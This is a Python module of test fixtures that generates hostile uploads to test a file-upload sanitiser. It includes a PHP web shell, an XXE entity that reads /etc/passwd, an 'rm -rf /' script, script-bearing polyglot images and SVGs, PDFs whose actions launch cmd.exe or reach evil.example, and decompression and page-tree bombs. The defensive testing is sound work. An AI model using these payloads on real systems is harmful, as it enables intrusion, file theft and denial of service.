"""Files that people should not send us, made on the spot: pictures, PDFs and what only looks like one (G14)."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, StreamDecodeLevel, String
from PIL import Image

SCRIPT = b"<script>alert('BOO')</script>"
PHONE = "MARKED-TELEPHONE"
# what a reader would act upon, as it stands in a file that is spelled out
ACTIVE = (
    b"/JavaScript", b"/JS", b"/Launch", b"/URI", b"/SubmitForm", b"/GoToR", b"/GoToE", b"/ImportData", b"/OpenAction",
    b"/AA", b"/AcroForm", b"/XFA", b"/EmbeddedFile", b"/Filespec", b"/Annots", b"/RichMedia", b"/Rendition", b"/Names",
    b"/Outlines", b"/Collection", b"/Metadata", b"/Info", b"/FFilter", b"/Ref ", b"BOO", b"cmd.exe", b"evil.example",
)  # fmt: skip


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **more: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format=kind, **more)
    return out.getvalue()


def with_gps(kind: str) -> bytes:
    """A photograph that says where it was taken and by which telephone, lying on its side."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = PHONE, 6
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (39.0, 54.0, 26.0), "E", (116.0, 23.0, 29.0)
    return picture(kind, exif=exif)


def with_large_head(kind: str, side: int = 65_000) -> bytes:
    """A picture of a few bytes that says it is `side` × `side` dots."""
    if kind == "PNG":
        head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
        chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 100)), (b"IEND", b"")]
        body = b"".join(
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
            for name, data in chunks
        )
        return b"\x89PNG\r\n\x1a\n" + body
    small = picture("JPEG")
    at = small.index(b"\xff\xc0") + 5
    return small[:at] + struct.pack(">HH", side, side) + small[at + 4 :]


def packed(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


NEITHER: dict[str, bytes] = {
    "nothing": b"",
    "gif": picture("GIF"),
    "gif and script": b"GIF89a/*" + picture("GIF")[6:] + b"*/=1;alert('BOO')//",
    "bmp": picture("BMP"),
    "webp": picture("WEBP"),
    "tiff": picture("TIFF"),
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "svg with a head": b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "html": b"<!doctype html><script>alert(1)</script>",
    "html before pdf": SCRIPT + b"\n%PDF-1.4\n",
    "spaces before pdf": b"\n\n%PDF-1.4\n%%EOF",
    "html before jpeg": SCRIPT + picture(),
    "script": b"alert(document.cookie)",
    "xml": b'<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><x/>',
    "mhtml": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "program": b"MZ\x90\x00" + b"\0" * 60 + b"PE\0\0",
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 50,
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "zip": packed("a.png", b"x"),
    "docx": packed("word/document.xml", b"<w:document/>"),
    "jar": packed("META-INF/MANIFEST.MF", b"Main-Class: Boo\n"),
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
    "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) run\n",
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n",
    "flash": b"FWS\x09" + b"\0" * 50,
    "link": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
    "php": b"<?php system($_GET['c']); ?>",
    "icon": picture("ICO"),
    "utf-16 html": "<script>alert(1)</script>".encode("utf-16"),
    "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
    "only a head of png": b"\x89PNG\r\n\x1a\n",
    "only a head of jpeg": b"\xff\xd8\xff\xe0",
    "only a head of pdf": b"%PDF-1.7\n",
    "cut jpeg": picture("JPEG", (900, 900))[:2000],
    "cut png": picture("PNG", (900, 900))[:300],
    "png without dots": picture("PNG")[:33] + b"\0\0\0\0IEND\xaeB`\x82",
    "jpeg of noise": b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + bytes(range(256)) * 40 + b"\xff\xd9",
    "png of noise": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40,
    "huge png": with_large_head("PNG"),
    "huge jpeg": with_large_head("JPEG"),
    "rather large png": with_large_head("PNG", 10_000),
}


def script(words: str = "app.alert('BOO')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(words))


def pdf(spoil: Callable[[Pdf], None] | None = None, **how: Any) -> bytes:
    """A PDF of one page that says GOOD; `spoil` puts something into it before it is saved."""
    made, out = Pdf.new(), io.BytesIO()
    made.add_blank_page(page_size=(200, 200))
    page = made.pages[0].obj
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = made.make_stream(b"BT /F1 12 Tf 20 100 Td (GOOD) Tj ET")
    if spoil is not None:
        spoil(made)
    made.save(out, **how)
    return out.getvalue()


def annotate(made: Pdf, **keys: Any) -> Any:
    """Put an annotation on the page."""
    note = made.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([10, 10, 90, 40]), **keys))
    made.pages[0].obj["/Annots"] = Array([*made.pages[0].obj.get("/Annots", []), note])
    return note


def embedded(made: Pdf) -> Any:
    stream = made.make_stream(b"MZ BOO")
    stream.Type = Name.EmbeddedFile
    return made.make_indirect(Dictionary(Type=Name.Filespec, F=String("cmd.exe"), EF=Dictionary(F=stream)))


def _root(**keys: Any) -> Callable[[Pdf], None]:
    def spoil(made: Pdf) -> None:
        for key, value in keys.items():
            made.Root[f"/{key}"] = value

    return spoil


def _drawn(made: Pdf, **keys: Any) -> Any:
    """A form that the page draws, with more in it than a drawing."""
    form = made.make_stream(b"0 0 5 5 re f")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 5, 5])
    for key, value in keys.items():
        form[f"/{key}"] = value
    made.pages[0].obj.Resources.XObject = Dictionary(X1=form)
    return form


def _tree_actions(made: Pdf) -> None:
    made.Root.Pages["/AA"] = Dictionary(O=script())


def _outline(made: Pdf) -> None:
    item = made.make_indirect(Dictionary(Title=String("BOO"), A=script()))
    made.Root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))


def _form(made: Pdf) -> None:
    field = annotate(
        made, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), V=String("b"), AA=Dictionary(K=script(), C=script())
    )
    made.Root.AcroForm = Dictionary(
        Fields=Array([field]), CO=Array([field]), NeedAppearances=True, DA=String("/F1 9 Tf")
    )


def _xfa(made: Pdf) -> None:
    body = made.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('BOO')</script></xdp:xdp>")
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([String("template"), body]))


def _deep(made: Pdf) -> None:
    nested: Any = script()
    for _ in range(60):
        nested = Array([Dictionary(Inner=nested)])
    _drawn(made, Deep=nested)


def _outside(made: Pdf) -> None:
    form = _drawn(made)
    form.F = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("http://evil.example/x"))
    form.FFilter = Name.FlateDecode


def _info(made: Pdf) -> None:
    made.docinfo["/Author"] = "BOO"
    with made.open_metadata() as words:
        words["dc:creator"] = ["BOO"]


def _names(key: str) -> Callable[[Pdf], None]:
    def spoil(made: Pdf) -> None:
        leaf = embedded(made) if key == "EmbeddedFiles" else script()
        made.Root.Names = Dictionary(**{key: Dictionary(Kids=Array([Dictionary(Names=Array([String("a"), leaf]))]))})

    return spoil


SPOILED: dict[str, Callable[[Pdf], None]] = {
    "opening action": lambda made: _root(OpenAction=script())(made),
    "next action": lambda made: _root(OpenAction=Dictionary(S=Name.GoTo, D=String("x"), Next=Array([script()])))(made),
    "action of the document": lambda made: _root(AA=Dictionary(WC=script()))(made),
    "action of the page": lambda made: made.pages[0].obj.__setitem__("/AA", Dictionary(O=script())),
    "action of the page tree": _tree_actions,
    "script by name": _names("JavaScript"),
    "file by name": _names("EmbeddedFiles"),
    "link": lambda made: annotate(made, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("http://evil.example"))),
    "launch": lambda made: annotate(made, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "remote": lambda made: annotate(made, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("cmd.exe"))),
    "submit": lambda made: annotate(
        made, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))
    ),
    "mouse": lambda made: annotate(made, Subtype=Name.Screen, AA=Dictionary(E=script())),
    "attached file": lambda made: annotate(made, Subtype=Name.FileAttachment, FS=embedded(made)),
    "media": lambda made: annotate(made, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=embedded(made))),
    "outline": _outline,
    "xfa": _xfa,
    "form": _form,
    "action in a drawing": lambda made: _drawn(made, AA=Dictionary(O=script())),
    "file in a drawing": lambda made: _drawn(made, AF=Array([embedded(made)])),
    "very deep": _deep,
    "bytes from outside": _outside,
    "page from outside": lambda made: _drawn(made, Ref=Dictionary(F=String("http://evil.example/y.pdf"), Page=0)),
    "portfolio": lambda made: _root(Collection=Dictionary(View=Name.D), AF=Array([embedded(made)]))(made),
    "who wrote it": _info,
    "piece": lambda made: made.pages[0].obj.__setitem__("/PieceInfo", Dictionary(Boo=Dictionary(Private=script()))),
}


def revised() -> bytes:
    """A PDF whose earlier revision still lies in it: an opening action, then an update without it."""
    first = pdf(SPOILED["opening action"], object_stream_mode=ObjectStreamMode.disable)
    catalogue = re.search(rb"(\d+) 0 obj\n<<((?!endobj).)*?/Pages (\d+)((?!endobj).)*?/Catalog", first, re.DOTALL)
    assert catalogue is not None
    number, pages = int(catalogue[1]), catalogue[3]
    update = b"%d 0 obj\n<< /Type /Catalog /Pages %s 0 R >>\nendobj\n" % (number, pages)
    at = len(first)
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, at)
    before = int(first.rsplit(b"startxref", 1)[1].split()[0])
    trailer = b"trailer\n<< /Size 50 /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        number, before, at + len(update),
    )  # fmt: skip
    return first + update + table + trailer


def locked(user: str = "secret") -> bytes:
    return pdf(encryption=Encryption(user=user, owner="owner"))


def doubling_pages() -> bytes:
    """Thirty levels of page trees, each naming the next twice: a thousand million pages."""

    def spoil(made: Pdf) -> None:
        node = made.Root.Pages
        for level in range(30):
            node = made.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([node, node]), Count=2 ** (level + 1)))
        made.Root.Pages = node

    return pdf(spoil)


def bursting() -> bytes:
    """A few hundred kilobytes whose objects unpack to 200 MB."""
    body = zlib.compress(b"1 0 <<>>" + b" " * (200 * 1024 * 1024), 9)
    parts, places = [b"%PDF-1.5\n"], []
    for number, said in (
        (2, b"<</Type/Catalog/Pages 3 0 R/X 1 0 R>>"),
        (3, b"<</Type/Pages/Kids[4 0 R]/Count 1>>"),
        (4, b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/Resources 1 0 R>>"),
        (5, b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body) + body + b"\nendstream"),
    ):
        places.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n" % number + said + b"\nendobj\n")
    at = sum(map(len, parts))
    rows = b"".join(struct.pack(">BIB", *row) for row in [(0, 0, 255), (2, 5, 0), *((1, p, 0) for p in [*places, at])])
    head = b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 2 0 R/Length %d>>stream\n" % len(rows)
    return b"".join(parts) + head + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % at


UNREADABLE: dict[str, Callable[[], bytes]] = {
    "locked": locked,
    "cut": lambda: pdf()[:-300],
    "no pages": lambda: pdf(lambda made: made.pages.__delitem__(0)),
    "doubling pages": doubling_pages,
    "bursting": bursting,
    "noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 30 + b"%%EOF",
    "only an end": lambda: b"%PDF-1.7\n%%EOF",
}


def spelled_out(content: bytes) -> bytes:
    """The whole PDF without compression, so that it can be searched."""
    out = io.BytesIO()
    with Pdf.open(io.BytesIO(content)) as read:
        read.save(
            out, compress_streams=False, object_stream_mode=ObjectStreamMode.disable,
            stream_decode_level=StreamDecodeLevel.generalized, static_id=True,
        )  # fmt: skip
    return out.getvalue()


def found_in(content: bytes) -> list[bytes]:
    """What a reader would act upon in a PDF."""
    said = spelled_out(content)
    return [each for each in ACTIVE if each in said]
